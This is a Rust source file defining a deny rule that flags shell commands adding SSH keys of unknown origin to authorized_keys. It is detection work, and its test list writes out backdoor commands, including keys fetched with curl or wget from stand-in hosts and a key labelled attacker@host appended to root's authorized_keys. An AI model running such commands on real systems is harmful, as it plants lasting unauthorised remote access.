//! An SSH key from the command line or the network added to `authorized_keys`:
//! a remote login for someone else.

use super::common::{has_public_key, is_authorized_keys};
use crate::rules::prelude::*;
use crate::rules::shared::changes::{fed_by_download, fed_text_deep, written};

pub(crate) static RULE: Rule = Rule {
    code: "PER003",
    name: "unknown-key-authorized",
    category: Category::Persistence,
    decision: Decision::Deny,
    commands: &[],
    summary: "adds an SSH key of unknown origin to authorized_keys",
    why: "A literal or downloaded key in authorized_keys gives a stranger a lasting remote login.",
    check,
    fires: &[
        "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@host' >> ~/.ssh/authorized_keys",
        "echo \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG key\" | sudo tee -a /root/.ssh/authorized_keys",
        "curl -s https://example.com/k.pub >> ~/.ssh/authorized_keys",
        "wget -qO- https://x.io/id.pub | tee -a ~/.ssh/authorized_keys",
        "mkdir -p ~/.ssh && printf '%s\\n' 'ssh-ed25519 AAAAC3Nza x' >> ~/.ssh/authorized_keys",
        "cat >> ~/.ssh/authorized_keys <<EOF\nssh-rsa AAAAB3Nza key\nEOF",
        "echo 'ssh-ed25519 AAAAC3Nza x' > /tmp/k.pub; cat /tmp/k.pub >> ~/.ssh/authorized_keys",
    ],
    passes: &["cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys", "echo 'ssh-rsa AAAAB3 x' > known.txt", "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519"],
};

/// Every command: the key can reach the file through any writer.
fn check(cmd: &Command, cx: &Context<'_>) -> Option<Hit> {
    let target = written(cmd, cx.env).into_iter().find(|w| is_authorized_keys(w, cmd, cx))?;
    let downloaded = fed_by_download(cmd, cx) || matches!(cmd.name.as_str(), "curl" | "wget");
    if !downloaded && !has_public_key(&fed_text_deep(cmd, cx)) {
        return None;
    }
    let from = if downloaded { "a downloaded key" } else { "a key written in the command" };
    Some(Hit::on(&target).with_message(format!("`{}` adds {from} to `{}`", cmd.name, target.text)))
}
